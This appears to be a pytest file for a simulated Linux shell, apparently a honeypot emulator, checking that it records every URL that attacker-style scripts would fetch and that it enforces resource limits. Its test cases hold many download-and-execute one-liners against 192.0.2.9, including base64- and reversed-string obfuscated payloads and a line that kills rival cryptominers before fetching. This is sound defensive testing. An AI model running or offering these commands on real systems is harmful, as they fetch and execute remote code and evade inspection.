"""What the scripts of 2023 to 2026 do before they fetch: each of the addresses in them is a wish."""

from __future__ import annotations

import base64
import re

import pytest

from eudaemon.world.host import Host
from eudaemon.world.seed import Seed
from eudaemon.world.shell.limits import ARRAYS_MAX, OFFERED_MAX, WORDS_MAX
from world.shell.told import Told

SERVER = Host.from_seed(Seed(b"test"), persona="linux-server")
HIDDEN = base64.b64encode(b"import urllib.request as u;exec(u.urlopen('http://192.0.2.9/inner').read())").decode()


@pytest.mark.parametrize(
    "script",
    [
        "cd /tmp || cd /var/run || cd /mnt; wget http://192.0.2.9/b.sh; curl -O http://192.0.2.9/c.sh",
        "(curl -s http://192.0.2.9/a.sh||wget -q -O - http://192.0.2.9/w.sh)|bash -sh",
        'bash -c "$(curl -fsSL http://192.0.2.9/i.sh)"',
        "bash <(curl -s http://192.0.2.9/p.sh)",
        "source <(curl -s http://192.0.2.9/q.sh); . <(wget -qO- http://192.0.2.9/q2.sh)",
        "while read u; do wget $u; done < <(printf 'http://192.0.2.9/%s\\n' 1 2) # http://192.0.2.9/1 http://192.0.2.9/2",
        "python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://192.0.2.9/py').read())\"",
        "perl -e 'use LWP::Simple; getstore(\"http://192.0.2.9/pl\",\"/tmp/x\");'",
        "echo \"print('http://192.0.2.9/piped')\" | python3",
        'U=("http://192.0.2.9/m1" "http://192.0.2.9/m2"); for u in "${U[@]}"; do curl -fsSL "$u" -o m && break; done',
        "h=(192 0 2 9); IFS=.; curl \"http://${h[*]}/ar2\" # http://192.0.2.9/ar2",
        "for i in {1..2}; do wget http://192.0.2.9/n$i; done # http://192.0.2.9/n1 http://192.0.2.9/n2",
        "curl http://192.0.2.9/{x,y}.sh # http://192.0.2.9/x.sh http://192.0.2.9/y.sh",
        "for ((i=1;i<=2;i++)); do wget http://192.0.2.9/c$i; done # http://192.0.2.9/c1 http://192.0.2.9/c2",
        "T=$(mktemp); curl -s http://192.0.2.9/mk -o $T && chmod +x $T && $T &",
        "D=$(mktemp -d); cd $D && wget http://192.0.2.9/md && tar xf md",
        "nohup bash -c \"curl -s http://192.0.2.9/nh | bash\" >/dev/null 2>&1 &",
        "setsid sh -c 'wget -qO- http://192.0.2.9/sid | sh' &",
        "trap 'curl http://192.0.2.9/tr | sh' EXIT; exit 0",
        "(( EUID == 0 )) && curl http://192.0.2.9/ar; [[ $(uname -s) =~ Linux|BSD ]] && curl http://192.0.2.9/re",
        "[[ \"$(id -u)\" == \"0\" && -d /tmp ]] && curl http://192.0.2.9/dq",
        "curl -sSL -o /tmp/a http://192.0.2.9/o1 --connect-timeout 5 --retry 3; curl --output b http://192.0.2.9/o2",
        "wget -i - <<< http://192.0.2.9/w2; wget -t 1 -T 5 --user-agent x http://192.0.2.9/w3",
        "echo 'tey/9.2.0.291//:ptth tegw' | rev | sh # http://192.0.2.9/yet",
        "x=http://192; x+=.0.2.9/plus; curl $x # http://192.0.2.9/plus",
        "curl http://192.0.2.9/log &>> /dev/null; exec 3>/tmp/l; curl http://192.0.2.9/fd >&3",
        "read -r -d '' S <<< 'curl http://192.0.2.9/rd'; bash -c \"$S\"",
        "IFS=, read -ra L <<< http://192.0.2.9/l1,http://192.0.2.9/l2; for u in \"${L[@]}\"; do wget $u; done "
        "# http://192.0.2.9/l1 http://192.0.2.9/l2",
        "ps aux | grep -v grep | grep -E 'xmrig|kinsing' | awk '{print $2}' | xargs -r kill -9; pkill -f x; "
        "netstat -anp | grep :3333 | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -I % kill -9 %; "
        "curl http://192.0.2.9/kin",
        "get() { if command -v curl >/dev/null; then curl -s \"$1\" -o \"$2\"; fi; }; get http://192.0.2.9/fn /tmp/fn",
    ],
)  # fmt: skip
def test_wishes(script: str) -> None:
    told = Told(SERVER)
    for line in script.partition(" # ")[0].split("\n"):
        told.run(line)
    named = re.findall(r"http://192\.0\.2\.9/[\w.]+", script.partition(" # ")[2] or script)
    assert set(told.wished) | {"http://192.0.2.9/w.sh"} >= set(named), told.wished
    assert set(told.wished) <= set(named), "and nothing else"


def test_what_is_encoded_for_another_language_or_by_openssl() -> None:
    told = Told(SERVER)
    told.run(f"python3 -c 'import base64;exec(base64.b64decode(\"{HIDDEN}\"))'")
    told.run("echo Y3VybCBodHRwOi8vMTkyLjAuMi45L29zLnNofHNo | openssl enc -d -base64 -A | bash")
    assert told.wished == ["http://192.0.2.9/inner", "http://192.0.2.9/os.sh"]
    assert told.run("echo hi | openssl base64") == "aGkK\n"


def test_of_files_of_what_commands_print_there_are_so_many_and_none_is_left() -> None:
    for past in (0, 1):
        told = Told()
        printed = told.run("cat" + " <(echo a)" * (OFFERED_MAX + past))
        assert printed == ("Killed\n" if past else "a\n" * OFFERED_MAX)
        assert told.run("ls /dev/63 /dev/62 2>/dev/null") == ""
        assert told.run("for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27 28 29 30 31 "
                        "32 33 34; do cat <(echo); done | wc -l") == "34\n"  # fmt: skip
        assert told.finish() == []


def test_what_grows_by_itself_has_an_end() -> None:
    told = Told()
    told.run("seq 60000 > /tmp/n")
    assert told.run("paste /tmp/n" + " /dev/null" * 4000).endswith("Killed\n")
    assert told.run("a=([" + "9" * 5000 + "]=x y); echo ${#a[@]}") == "2\n"
    assert told.run("for ((;;)); do :; done") == "Killed\n"
    assert told.run("trap 'trap \"echo in\" EXIT; echo out' EXIT; exit") == "out\n"


def test_limits_of_arrays() -> None:
    for past in (0, 1):
        told = Told()
        told.run("; ".join(f"a{number}=(x)" for number in range(ARRAYS_MAX)))
        assert told.run("b=(y); echo $b" if past else "a0=(y); echo $a0") == ("Killed\n" if past else "y\n")
        told = Told()
        told.run("a=(" + "x " * WORDS_MAX + ")")
        assert told.run("a+=(x)" if past else "echo ${#a[@]}") == ("Killed\n" if past else f"{WORDS_MAX}\n")
        taken = told.purse.bytes_taken
        told.run("unset a")
        assert told.purse.bytes_taken < taken - WORDS_MAX, "what an array holds is counted"
